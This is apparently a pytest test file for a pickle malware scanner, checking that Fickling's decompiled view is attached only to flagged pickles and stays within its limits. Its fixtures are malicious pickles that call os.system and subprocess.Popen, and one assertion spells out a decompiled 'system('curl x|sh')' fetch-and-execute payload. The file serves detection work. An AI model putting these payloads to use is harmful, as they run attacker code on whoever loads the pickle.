"""Fickling's decompiled view as a second opinion: on pickles with a finding only, bounded."""

from __future__ import annotations

import pickle
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from scanners import Finding, ScanLimits, StreamScan, scan_file
from scanners.limits import FicklingLimits
from scanners.report import JsonValue
from scanners.second_opinion import fickling_view
from tests.scanners.corpus import EVIL, Sample, reduce_global


@dataclass
class CountingOpinion:
    """The real fickling view, counting the pickles it is asked about."""

    seen: list[bytes] = field(default_factory=list)

    def __call__(self, data: bytes, limits: FicklingLimits) -> dict[str, JsonValue]:
        self.seen.append(data)
        return fickling_view(data, limits)


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _denied(findings: tuple[Finding, ...]) -> Finding:
    return next(f for f in findings if f.code == "PICKLE_GLOBAL_DENIED")


def test_scan_file_malicious_pickle_finding_carries_fickling_view(tmp_path: Path) -> None:
    report = scan_file(_write(tmp_path / "x.pkl", EVIL))
    view = _denied(report.findings).details["fickling"]
    assert isinstance(view, dict)
    assert (
        view["decompiled"] == "from os import system\n_var0 = system('curl x|sh')\nresult = _var0"
    )
    assert "fickling" in report.scanners


def test_scan_file_benign_corpus_never_asks_for_a_second_opinion(
    benign_corpus: dict[str, Sample],
) -> None:
    opinion = CountingOpinion()
    for sample in benign_corpus.values():
        scan_file(sample.path, name=sample.name, second_opinion=opinion)
    assert opinion.seen == []


def test_scan_file_second_opinion_runs_once_per_offending_pickle(tmp_path: Path) -> None:
    evil = reduce_global("os", "system")[:-1] + b"0" + reduce_global("subprocess", "Popen")
    data = pickle.dumps([1, 2]) + evil
    opinion = CountingOpinion()
    report = scan_file(_write(tmp_path / "x.pkl", data), second_opinion=opinion)
    assert len([f for f in report.findings if "fickling" in f.details]) == 2
    assert opinion.seen == [evil]


def test_scan_file_second_opinion_off_leaves_details_alone(tmp_path: Path) -> None:
    report = scan_file(_write(tmp_path / "x.pkl", EVIL), second_opinion=None)
    assert "fickling" not in _denied(report.findings).details


def test_scan_file_pickle_over_the_limit_is_not_decompiled(tmp_path: Path) -> None:
    opinion = CountingOpinion()
    limits = ScanLimits(fickling=FicklingLimits(max_pickle_bytes=8))
    report = scan_file(_write(tmp_path / "x.pkl", EVIL), limits=limits, second_opinion=opinion)
    view = _denied(report.findings).details["fickling"]
    assert opinion.seen == []
    assert isinstance(view, dict) and "over the 8-byte limit" in str(view["error"])


def test_stream_scan_finding_carries_the_same_fickling_view(tmp_path: Path) -> None:
    data = pickle.dumps([list(range(40)) for _ in range(3000)], protocol=4) + EVIL
    scan = StreamScan(name="x.pkl", size=len(data))
    for start in range(0, len(data), 7919):
        scan.feed(data[start : start + 7919])
    streamed = _denied(scan.finish().findings).details["fickling"]
    assert (
        streamed
        == _denied(scan_file(_write(tmp_path / "x.pkl", data)).findings).details["fickling"]
    )


def test_fickling_view_stops_at_its_deadline() -> None:
    data = pickle.dumps([list(range(100)) for _ in range(2000)], protocol=2)
    view = fickling_view(data, FicklingLimits(max_seconds=1e-6))
    assert view == {"error": "fickling did not finish within 1e-06 s"}


def test_fickling_view_cuts_long_text() -> None:
    view = fickling_view(EVIL, FicklingLimits(max_chars=20))
    assert view == {"decompiled": "from os import syste", "cut": True}


@pytest.mark.parametrize("data", [b"\xff\xfe", b"cos\nsystem\n(S'x'\n"])
def test_fickling_view_unreadable_pickle_is_an_error_not_a_crash(data: bytes) -> None:
    view = fickling_view(data, FicklingLimits())
    assert str(view["error"]).startswith("fickling could not decompile it")
